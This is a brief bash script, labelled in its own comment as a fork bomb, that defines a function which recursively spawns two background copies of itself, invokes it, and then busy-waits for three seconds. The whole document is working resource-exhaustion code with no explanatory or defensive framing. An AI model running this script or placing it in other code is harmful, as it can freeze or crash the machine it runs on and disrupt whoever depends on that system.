# A fork bomb. It goes on when the line that set it off has ended.
bomb() { bomb | bomb & }
bomb
# No further process is needed for waiting.
while ((SECONDS < 3)); do :; done
